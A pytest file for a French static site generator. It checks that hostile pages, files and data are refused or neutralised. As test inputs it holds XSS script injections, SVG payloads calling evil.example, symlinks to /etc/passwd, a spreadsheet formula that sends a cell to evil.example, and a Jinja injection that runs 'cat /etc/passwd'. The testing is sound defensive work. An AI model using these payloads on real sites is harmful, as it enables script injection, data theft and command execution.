"""Issue 23, « Any input II »: what a page, a file in docs/ or resources/, or a name can do
is bounded — checked here at the loader's level, without a build (the browser-level corpus,
one shared build, is in tests/engine/test_hostile_site.py)."""

from __future__ import annotations

import errno
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from conftest import ROOT
from macros.data import inputs
from macros.content.pages import SECTIONS, name_conflicts, write_pages
from macros.data.inputs import DataError
from macros.data.loader import load_site_data
from macros.engine import csp

# ------------------------------------------------------------------ CSP: known scripts only

THEME_SCRIPT = ('__md_scope=new URL("../..",location),__md_hash=e=>[...e].reduce(((e,_)=>(e<<5)-e+'
                '_.charCodeAt(0)),0),__md_get=(e,_=localStorage,t=__md_scope)=>JSON.parse(_.getItem('
                't.pathname+"."+e)),__md_set=(e,_,t=localStorage,a=__md_scope)=>{try{t.setItem('
                'a.pathname+"."+e,JSON.stringify(_))}catch(e){}}')


def test_the_policy_allows_the_theme_scripts_and_none_from_the_page():
    page = (f"<html><head><meta charset=\"utf-8\"><script>{THEME_SCRIPT}</script></head><body>"
            "<article><p>x</p></article><script>window.__pwned=1</script>"   # after </article>
            "<nav><script>window.__pwned=2</script></nav>"                    # in a title's place
            f"<script>{THEME_SCRIPT.replace('../..', 'https://evil.example/')}</script>"
            '<script>document.documentElement.classList.add("psds-js")</script></body></html>')
    allowed = csp.theme_scripts(page)
    assert allowed == [THEME_SCRIPT, 'document.documentElement.classList.add("psds-js")']
    policy = csp.policy(page)
    assert policy.count("'sha256-") == 2


def test_a_template_value_stands_only_for_a_relative_address():
    known = csp.known_scripts()
    assert known.fullmatch(THEME_SCRIPT)
    for value in ("/", ".", "../../..", "/prendre-soin/"):
        assert known.fullmatch(THEME_SCRIPT.replace("../..", value)), value
    for value in ('",alert(1),"', "javascript:alert(1)", "</script>"):
        assert not known.fullmatch(THEME_SCRIPT.replace("../..", value)), value
    # Material's redirect template acts on a page's own value: never allowed.
    assert not known.fullmatch('window.location.replace(["..",window.location.search,'
                               'window.location.hash].join(""))')


# ------------------------------------------------------------------ pages' front matter

HOSTILE_FRONT = {
    "title-script": ("---\ntitle: <script>window.__pwned=1</script>\n---\n# x\n", 2, "title"),
    "title-entity": ("---\ntitle: \"&lt;img src=x&gt;\"\n---\n# x\n", 2, "title"),
    "title-type": ("---\ntitle: [1, 2]\n---\n# x\n", 2, "title"),
    "title-long": ("---\ntitle: " + "a" * 200 + "\n---\n# x\n", 2, "title"),
    "unknown-key": ("---\ndescription: ok\ntemplate: redirect.html\n---\n# x\n", 3, "template"),
    "hide-value": ("---\nhide:\n  - everything\n---\n# x\n", 2, "hide.0"),
    "crlf-alias": ("---\r\na: &a [1, 2]\r\nb: [*a, *a]\r\n---\r\n# x\r\n", 2, None),
    "cr-title": ("---\rtitle: <b>x</b>\r---\r# x\r", 2, "title"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_FRONT))
def test_a_page_front_matter_is_validated_like_data_whatever_its_line_ends(tmp_path, case):
    text, line, field = HOSTILE_FRONT[case]
    page = tmp_path / "page.md"
    page.write_bytes(text.encode("utf-8"))
    problems = inputs.check_page(page, "docs/page.md")
    assert problems, case
    assert problems[0].file == "docs/page.md" and problems[0].line == line, problems
    assert problems[0].field == field, problems
    assert "en-tête de la page" in problems[0].message


def test_every_real_page_front_matter_passes():
    for path in sorted((ROOT / "docs").rglob("*.md")):
        rel = path.relative_to(ROOT).as_posix()
        if rel.split("/")[1] in ("outils", "cps", "territoires"):
            continue
        assert inputs.check_page(path, rel) == [], rel


# ------------------------------------------------------------------ docs/ holds what may be published

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
HOSTILE_DOCS = {
    "link-to-git-config": lambda d: (d / "config.txt").symlink_to(ROOT / ".git"),
    "link-to-system-file": lambda d: (d / "assets" / "passwd.md").symlink_to("/etc/passwd"),
    "link-to-folder": lambda d: (d / "etc").symlink_to("/etc"),
    "dangling-link": lambda d: (d / "absent.md").symlink_to(d / "nowhere.md"),
    "html-page": lambda d: (d / "page.html").write_text("<script>window.__pwned=1</script>"),
    "xhtml-page": lambda d: (d / "assets" / "p.XHTML").write_text("<html/>"),
    "script-file": lambda d: (d / "evil.js").write_text("window.__pwned=1"),
    "svg-script": lambda d: (d / "a.svg").write_text(SVG.format("<script>window.__pwned=1</script>")),
    "svg-event": lambda d: (d / "a.svg").write_text(SVG.format('<rect onload="window.__pwned=1"/>')),
    "svg-foreign-href": lambda d: (d / "a.svg").write_text(
        SVG.format('<use xlink:href="https://evil.example/x.svg#a"/>')),
    "svg-foreign-object": lambda d: (d / "a.svg").write_text(
        SVG.format("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>")),
    "svg-style-import": lambda d: (d / "a.svg").write_text(
        SVG.format("<style>@import url(https://evil.example/a.css);</style>")),
    "svg-animate-href": lambda d: (d / "a.svg").write_text(
        SVG.format('<a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a>')),
    "svg-entities": lambda d: (d / "a.svg").write_text(
        '<!DOCTYPE svg [<!ENTITY a "aaaa">]>' + SVG.format("<text>&a;</text>")),
    "meta-refresh": lambda d: (d / "page.md").write_text(
        '# Page\n\n<META content="0;url=https://evil.example" HTTP-EQUIV="refresh">\n'),
    "named-pipe": lambda d: os.mkfifo(d / "tube.md"),
    "long-name": lambda d: (d / ("a" * 200 + ".md")).write_text("# x\n"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_DOCS))
def test_a_file_in_docs_the_site_must_not_publish_is_refused_by_name(tmp_path, case):
    docs = tmp_path / "docs"
    (docs / "assets").mkdir(parents=True)
    (docs / "index.md").write_text("# Accueil\n")
    HOSTILE_DOCS[case](docs)
    started = time.monotonic()
    problems = inputs.check_docs(docs, ("outils",))
    assert time.monotonic() - started < 5  # a pipe is never opened
    assert len(problems) == 1, problems
    assert problems[0].file.startswith("docs/") and problems[0].file != "docs/index.md"
    assert "refusé" in problems[0].message or "trop long" in problems[0].message, problems


def test_a_link_in_a_generated_folder_is_refused_too(tmp_path):
    docs = tmp_path / "docs"
    (docs / "outils").mkdir(parents=True)
    (docs / "outils" / "x.md").symlink_to("/etc/hostname")
    [problem] = inputs.check_docs(docs, ("outils",))
    assert problem.file == "docs/outils/x.md" and "/etc/hostname" in problem.message


def test_a_page_is_read_again_once_changed_and_its_problems_not_before(tmp_path, monkeypatch):
    docs = tmp_path / "docs"
    (docs / "outils").mkdir(parents=True)
    page, generated = docs / "page.md", docs / "outils" / "x.md"
    page.write_bytes(b"---\ntitle: [\n---\n# Titre\n")
    generated.write_bytes(b"# \xe9t\xe9\n")  # Latin-1
    first = inputs.check_docs(docs, ("outils",))
    assert sorted(p.file for p in first) == ["docs/outils/x.md", "docs/page.md"]
    reads = []
    monkeypatch.setattr(inputs, "read", lambda path, rel: reads.append(rel) or ("", []))
    assert inputs.check_docs(docs, ("outils",)) == first and reads == []  # unchanged: not read
    monkeypatch.undo()
    # Saved again, the same size, a moment later (an editor's save).
    page.write_bytes(b"---\ntitle: a\n---\n# Titre\n")
    generated.write_bytes(b"# \xc3\xa9t\n")
    later = page.stat().st_mtime_ns + 10_000_000
    os.utime(page, ns=(later, later))
    os.utime(generated, ns=(later, later))
    assert inputs.check_docs(docs, ("outils",)) == []
    # Replaced by another file (the form saves aside, then renames over): read again at once.
    aside = docs / "page.md.tmp"
    aside.write_bytes(b"---\ntitle: [\n---\n# Titre\n")
    os.utime(aside, ns=(later, later))
    aside.replace(page)
    assert [p.file for p in inputs.check_docs(docs, ("outils",))] == ["docs/page.md"]


def test_the_real_docs_folder_passes():
    from macros.content.pages import SECTIONS

    assert inputs.check_docs(ROOT / "docs", SECTIONS) == []


# ------------------------------------------------------------------ reserved names

def _with_file(tmp_path: Path, folder: str, name: str, source: str) -> Path:
    project = tmp_path / "project"
    shutil.copytree(ROOT / "resources", project / "resources")
    shutil.copytree(ROOT / "docs", project / "docs", ignore=shutil.ignore_patterns(*SECTIONS))
    shutil.copy(ROOT / "resources" / folder / source, project / "resources" / folder / name)
    return project


@pytest.mark.parametrize("folder, name, replaced", [
    ("tools", "index.yml", "la page docs/outils.md"),
    ("territories", "index.yml", "la page docs/territoires.md"),
    ("territories", "prendre-soin-de-soi.yml", "le calendrier (.ics) de tout le programme"),
    ("territories", "zz-en.yml", "le calendrier (.ics) du territoire « zz » en anglais"),
])
def test_an_id_that_would_replace_a_page_of_the_site_is_refused(tmp_path, folder, name, replaced):
    source = sorted(p.name for p in (ROOT / "resources" / folder).glob("*.yml"))[0]
    project = _with_file(tmp_path, folder, name, source)
    if name == "zz-en.yml":  # a territory whose English feed is named like zz-en's French one
        shutil.copy(project / "resources" / folder / source, project / "resources" / folder / "zz.yml")
    data = load_site_data(project / "resources")
    problems = name_conflicts(data, project / "docs")
    assert [p.file for p in problems] == [f"resources/{folder}/{name}"], problems
    assert replaced in problems[0].message and "renommez le fichier" in problems[0].message
    with pytest.raises(inputs.DataError):
        write_pages(data, project / "docs")
    assert not (project / "docs" / "outils" / "index.md").exists()


# ------------------------------------------------------------------ open data: no formula

def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised_and_the_json_keeps_it(tmp_path):
    import csv
    import io
    import json

    from macros.content import catalogue

    resources = tmp_path / "resources"
    shutil.copytree(ROOT / "resources", resources)
    tool = sorted((resources / "tools").glob("*.yml"))[0]
    text = tool.read_text(encoding="utf-8")
    title = text.split("\n  fr: ", 1)[1].split("\n", 1)[0]
    formula = '=HYPERLINK("https://evil.example/?x="&A1;"clic")'
    tool.write_text(text.replace(f"\n  fr: {title}\n", f"\n  fr: '{formula}'\n", 1)
                    .replace("publisher: ", "publisher: '@SUM(1+1)' #", 1), encoding="utf-8")
    data = load_site_data(resources)
    cells = [cell for row in csv.reader(io.StringIO(catalogue.to_csv(data))) for cell in row]
    assert f"'{formula}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert formula in [row["title_fr"] for row in json.loads(catalogue.to_json(data))["tools"]]
    for cell in ("-2+3", "+1", "@x", "\tx", "plain", 3):
        assert catalogue.spreadsheet_safe(cell) == (f"'{cell}" if cell not in ("plain", 3) else cell)


# ------------------------------------------------------------------ odd files in resources/

ODD_FILES = {
    # An editor's lock file (Emacs): a dangling link, named with a dot; skipped.
    "lock-file": (lambda r: (r / "territories" / ".#carene.yml").symlink_to("user@host.1234:1700000000"),
                  None),
    "named-pipe": (lambda r: os.mkfifo(r / "tools" / "tube.yml"), "resources/tools/tube.yml"),
    "folder-named-yml": (lambda r: (r / "events" / "dossier.yml").mkdir(), "resources/events/dossier.yml"),
    "link-to-system-file": (lambda r: (r / "tools" / "lien.yml").symlink_to("/etc/passwd"),
                            "resources/tools/lien.yml"),
    "dangling-link": (lambda r: (r / "tools" / "absent.yml").symlink_to(r / "nowhere.yml"),
                      "resources/tools/absent.yml"),
    "long-name": (lambda r: (r / "tools" / ("a" * 239 + ".yml")).write_text("x: 1\n"), "resources/tools/aaa"),
    "link-loop": (lambda r: (r / "tools" / "boucle").symlink_to(".."), "resources/tools/boucle"),
    "required-file-as-pipe": (lambda r: ((r / "glossary.yml").unlink(), os.mkfifo(r / "glossary.yml")),
                              "resources/glossary.yml"),
}


def test_odd_files_in_resources_are_skipped_or_refused_by_name_without_a_hang(tmp_path):
    # One `make check` for every case (each would cost a process start).
    shutil.copytree(ROOT / "resources", tmp_path / "resources")
    shutil.copytree(ROOT / "docs", tmp_path / "docs", ignore=shutil.ignore_patterns(*SECTIONS))
    for make, _ in ODD_FILES.values():
        make(tmp_path / "resources")
    checked = subprocess.run([sys.executable, "-m", "macros.cli", "--root", str(tmp_path), "check"], cwd=ROOT,
                             capture_output=True, text=True, timeout=60)
    output = checked.stdout + checked.stderr
    assert "Traceback" not in output and "Error" not in output, output
    refused = [name for _, name in ODD_FILES.values() if name]
    assert checked.returncode == 1 and output.startswith(f"{len(refused)} erreurs"), output
    for name in refused:
        assert f"  - {name}" in output, (name, output)
    assert ".#carene" not in output


# ------------------------------------------------------------------ bounds

@pytest.mark.slow
def test_a_huge_file_of_unknown_references_and_an_entity_heavy_text_end_fast_and_short(tmp_path):
    from conftest import copy_project, run_build

    project = copy_project(tmp_path / "project")
    tool = sorted((project / "resources" / "tools").glob("*.yml"))[0]
    text = tool.read_text(encoding="utf-8")
    refs = "".join(f"  - inconnue-{index}\n" for index in range(50_000))
    (tool.parent / "references-inconnues.yml").write_text(text.replace("cps:\n", "cps:\n" + refs, 1))
    assert (tool.parent / "references-inconnues.yml").stat().st_size > 900_000
    heavy = "<&>#" * 50_000  # 200 KB
    (tool.parent / "entites.yml").write_text(text.replace("\ntype:", f"\ncontents:\n  fr: '{heavy}'\ntype:", 1)
                                            if "\ncontents:" not in text else
                                            text.replace("\ncontents:", f"\ncontents:\n  fr: '{heavy}'\nx_contents:", 1))
    started = time.monotonic()
    checked = subprocess.run([sys.executable, "-m", "macros.cli", "check"], cwd=project, capture_output=True,
                             text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT)})
    built = run_build(project)
    assert time.monotonic() - started < 60
    for result in (checked, built):
        output = result.stdout + result.stderr
        assert result.returncode == 1, output[-2000:]
        assert "Traceback" not in output
        assert "resources/tools/references-inconnues.yml, ligne" in output
        assert "autres erreurs, non affichées" in output
    assert len(checked.stdout.splitlines()) <= 50
    assert len([line for line in built.stdout.splitlines() + built.stderr.splitlines()
                if not line.startswith("INFO")]) <= 50


def test_thousands_of_broken_items_in_one_file_are_each_said_once_without_a_hang(tmp_path):
    # A line copied 2,000 times (the benchmark's fuzzing found it): each copy an item with its
    # required fields missing. Said once each, the problems were compared pairwise: 16 s.
    resources = tmp_path / "resources"
    shutil.copytree(ROOT / "resources", resources)
    (resources / "indicators.yml").write_text("indicators:\n" + "  - unknown: x\n" * 5000, encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(DataError) as raised:
        load_site_data(resources)
    assert time.monotonic() - started < 10  # the fuzzing's bound for « never a hang »
    problems = raised.value.problems
    assert len(problems) == len(set(problems)) > 5000
    assert {p.line for p in problems if p.file == "resources/indicators.yml"} >= set(range(2, 5002))


# ------------------------------------------------------------------ generator faults

def test_an_event_in_year_9999_is_refused_in_french(tmp_path):
    shutil.copytree(ROOT / "resources", tmp_path / "resources")
    event = sorted((tmp_path / "resources" / "events").glob("*.yml"))[0]
    text = event.read_text(encoding="utf-8")
    event.write_text("\n".join("start: 9999-12-31" if line.startswith("start:") else line
                               for line in text.splitlines()) + "\n", encoding="utf-8")
    with pytest.raises(inputs.DataError) as caught:
        load_site_data(tmp_path / "resources")
    [problem] = caught.value.problems
    assert problem.field == "start" and "9999" in problem.message and "entre 2000 et 2100" in problem.message


def test_a_latin1_page_in_a_generated_folder_is_named(tmp_path):
    docs = tmp_path / "docs"
    (docs / "outils").mkdir(parents=True)
    (docs / "outils" / "ma-page.md").write_bytes("# Été\n".encode("latin-1"))
    [problem] = inputs.check_docs(docs, ("outils",))
    assert problem.file == "docs/outils/ma-page.md" and "UTF-8" in problem.message


@pytest.mark.parametrize("code, french", [(errno.ENOSPC, "disque plein"), (errno.EROFS, "lecture seule"),
                                          (errno.ENAMETOOLONG, "nom de fichier trop long"),
                                          (errno.EACCES, "accès refusé")])
def test_a_system_error_of_the_generator_is_said_in_french_with_its_file(tmp_path, monkeypatch, code, french):
    from macros.content import generate as generate_module
    from macros.data import files

    def fail(path, content):
        raise OSError(code, os.strerror(code), str(path))

    monkeypatch.setattr(files, "atomic_write", fail)
    project = tmp_path / "project"
    shutil.copytree(ROOT / "resources", project / "resources")
    shutil.copytree(ROOT / "docs", project / "docs", ignore=shutil.ignore_patterns(*SECTIONS))
    with pytest.raises(OSError) as caught:
        generate_module.generate(project)
    message = inputs.os_error_message(caught.value, "la préparation des pages", project)
    assert message.startswith("docs/") and french in message, message
    assert os.strerror(code) not in message


def test_the_build_says_a_system_error_in_french_with_its_file():
    from mkdocs.exceptions import PluginError

    from macros.engine import hooks

    with pytest.raises(PluginError) as caught:
        with hooks.french_errors("la préparation des pages"):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(ROOT / "docs" / "outils" / "x.md"))
    assert str(caught.value) == ("docs/outils/x.md : disque plein : libérez de la place puis recommencez "
                                 "(pendant la préparation des pages)")


def test_a_page_full_of_entities_is_refused_before_markdown_would_take_minutes(tmp_path):
    page = tmp_path / "page.md"
    page.write_text("# Page\n\n" + "&amp;<b>" * 25_000 + "\n", encoding="utf-8")  # 200 KB
    started = time.monotonic()
    [problem] = inputs.check_page(page, "docs/page.md")
    assert time.monotonic() - started < 1
    assert "trop de signes" in problem.message and "50000" in problem.message


# ------------------------------------------------------------------ Jinja in pages (mkdocs-macros)

@pytest.mark.parametrize("expression", [
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{% include '../.git/config' %}",
    "{% set x = 1 %}",
    "{{ macros_info() }}",
    "{{ config }}",
    "{{ range(10**9) | list }}",
    "{{ calendar(config.__class__) }}",
    "{{ calendar(heading_level=lipsum()) }}",
    "{{ lessons_list('force')[0] }}",
    "{{ inconnue() }}",
])
def test_a_page_calls_only_the_site_macros_with_plain_values(tmp_path, expression):
    from macros.content.render import MACROS

    page = tmp_path / "page.md"
    page.write_text(f"# Page\n\nTexte.\n\n{expression}\n", encoding="utf-8")
    [problem] = inputs.check_page(page, "docs/page.md", MACROS)
    assert problem.line == 5 and "refusée" in problem.message, problem


def test_the_real_pages_macro_calls_pass():
    from macros.content.render import MACROS

    page_calls = ('{{ calendar(heading_level=3) }} {{ lessons_list("faiblesse", "coordination") }} '
                  '{{ home_audiences(docs_dir=config.docs_dir) }} {% raw %}{{ x }}{% endraw %}')
    assert inputs._check_jinja(page_calls, "p.md", MACROS) == []
